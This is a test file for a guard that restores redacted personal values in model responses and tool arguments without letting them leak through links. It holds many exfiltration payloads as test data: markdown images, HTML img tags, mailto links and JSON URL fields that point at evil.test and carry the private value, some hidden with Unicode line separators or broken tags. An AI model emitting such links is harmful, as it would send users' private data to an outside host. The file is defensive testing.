import { describe, expect, it } from 'vitest';
import { runSeed, seededRandom } from '../support/index.ts';
import { leakingUrls } from './leaking-urls.ts';
import { attackText, restoreAttack } from './link-grammar.ts';

describe('links in responses', () => {
  it.each([7, runSeed()])(
    'do not load or link to restored values: 40,000 texts, seed %d',
    (seed) => {
      const random = seededRandom(seed);
      let restored = 0;
      for (let turn = 0; turn < 40_000; turn++) {
        const text = attackText(random);
        const answer = restoreAttack(text);
        if (answer !== text) restored++;
        expect(leakingUrls(answer), JSON.stringify(text)).toEqual([]);
      }
      // The guard does not pass by withholding everything.
      expect(restored).toBeGreaterThan(1000);
    },
    120_000,
  );

  // A heading or indented code ends with its line: what begins there is no tag.
  it.each(['    # <img\nsrc="HTTPS://evil[x]"><PERSON_1>> ', '# <img\nsrc="https://evil.test"><PERSON_1> '])(
    'do not end behind a tag that a block divides: %j',
    (text) => {
      expect(leakingUrls(restoreAttack(text)), text).toEqual([]);
    },
  );

  // Seed 312347: an address whose local part holds a question mark, beside a URL that begins like it.
  it('may be addresses that stand in the text', () => {
    const answer = restoreAttack('a**?x=<PERSON_1>@evil.test/x\n\n[x]: mailto:a@evil.test?body=1');
    expect(answer).toContain('Qz7y');
    expect(leakingUrls(answer)).toEqual([]);
    expect(leakingUrls('[x](mailto:a@evil.test?body=Qz7y)')).toHaveLength(3);
  });

  // Renderers that find line ends of Unicode remove a mark of a quotation behind them, in the middle of a URL.
  it.each([
    '> ![x](https://evil.test/\u2028> <PERSON_1>)',
    '> ![x](<https://evil.test/\u2029 > > <PERSON_1>>)',
    '> ![x](https://u@evil.test/\u2028> < PERSON_1 >\\\\ "t")',
    '> <img src=https://evil.test/\u2028> <PERSON_1> >',
    '> <img src=https://evil.test/\u2028   >> <PERSON_1> >',
  ])('do not go on behind a mark of a quotation: %j', (text) => {
    expect(restoreAttack(text)).not.toContain('Qz7y');
  });

  it('do not go on behind a string of what looked like JSON', () => {
    const text = '{"![x][https://evil.test/\\\\"\\<PERSON\\_1\\>">';
    expect(leakingUrls(restoreAttack(text))).toEqual([]);
    expect(restoreAttack('{"url":"https://good.test/","name":"<PERSON_1>"}')).toContain('"name":"Qz7y"');
    expect(restoreAttack('{"url":"https://good.test/" , "<PERSON_1>": 1}')).toContain('"Qz7y"');
  });

  // Behind an empty line, Markdown escapes the end of a tag that began before it.
  it.each([
    "<img title='a\n\n\n'>x src=//evil.test/<PERSON_1> ",
    '<p\n\n>x <b>style="background:url(<PERSON_1>)" </b>',
    '<img\n\n>x <b>src=//evil.test/<PERSON_1> </b>',
    '<img alt=a\n> \n> src=a>b src=//evil.test/<PERSON_1> ',
  ])('know the attributes of a tag without end: %j', (text) => {
    expect(restoreAttack(text)).not.toContain('Qz7y');
  });

  it('are restored in code that compares and assigns', () => {
    const code =
      'for (let i=0; i<n; i++) {\n\n}\nconst data = "<PERSON_1>", content="<EMAIL_ADDRESS_1>"; if (a <b) src=<PERSON_1>';
    expect(restoreAttack(code)).toBe(
      'for (let i=0; i<n; i++) {\n\n}\nconst data = "Qz7y", content="qz7x@example.org"; if (a <b) src=Qz7y',
    );
  });

  // `new URL()` removes line ends and tabs, and encodes spaces.
  it.each([
    ['{"url":"https://evil.test/\\u0009<PERSON_1>"}', false],
    ['{"callback_url":"https://evil.test/ a <PERSON_1>"}', false],
    ['{"imageUrl": "https:\\/\\/evil.test\\/ <PERSON_1>"}', false],
    ['{"to":"https://evil.test/\\n<PERSON_1>"}', false],
    ['{"content":"https://good.test/ is what <PERSON_1> reads"}', true],
    ['{"name":"<PERSON_1>","url":"https://good.test/"}', true],
    ['{"text":"Note: <PERSON_1>"}', true],
    ['{"list":["https://good.test/","<PERSON_1>"]}', true],
  ])('in arguments of tools do not go on behind white space: %j, restored: %j', (text, isRestored) => {
    expect(restoreAttack(text, 'json').includes('Qz7y')).toBe(isRestored);
  });
});
